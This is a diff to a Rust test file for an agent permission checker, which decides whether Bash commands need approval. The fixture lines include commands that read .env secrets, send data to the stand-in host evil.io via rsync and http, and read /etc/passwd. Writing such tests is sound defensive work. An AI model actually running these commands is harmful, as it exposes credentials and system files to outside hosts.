@@ -118,7 +118,7 @@ async fn the_words_of_a_program_are_held_against_rules() {
         std::os::unix::fs::symlink(session.room.at("work/locked"), session.room.at("work/fine")).unwrap();
         session
             .holds(
-                "ask Bash awk 1 .env
+                "ask Bash nroff .env
                  ask Bash dd if=.env of=x
                  ask Bash tool -f.env
                  ask Bash tool --file=src/.env
@@ -133,7 +133,7 @@ async fn the_words_of_a_program_are_held_against_rules() {
                  ask Bash http https:evil.io
                  ask Bash rsync a evil.io:x
                  allow Bash less .env
-                 allow Bash awk 1 a.txt
+                 allow Bash nroff a.txt
                  allow Bash tool --file=src/env
                  allow Bash nc good.io 80
                  allow Bash echo .env evil.io
@@ -144,7 +144,7 @@ async fn the_words_of_a_program_are_held_against_rules() {
     let mut settings = rules("+Bash");
     settings["permissions"]["blockReadsOutsideWorkingDirectories"] = json!(true);
     let session = with(settings).open();
-    session.holds("ask Bash awk 1 /etc/passwd\nask Bash awk 1 ../x\nallow Bash awk 1 src/../a.txt").await;
+    session.holds("ask Bash nroff /etc/passwd\nask Bash awk 1 ../x\nallow Bash awk 1 src/../a.txt").await;
 }
 
 /// Nothing lifts a block, so nothing but a yes lets through what may lie outside.
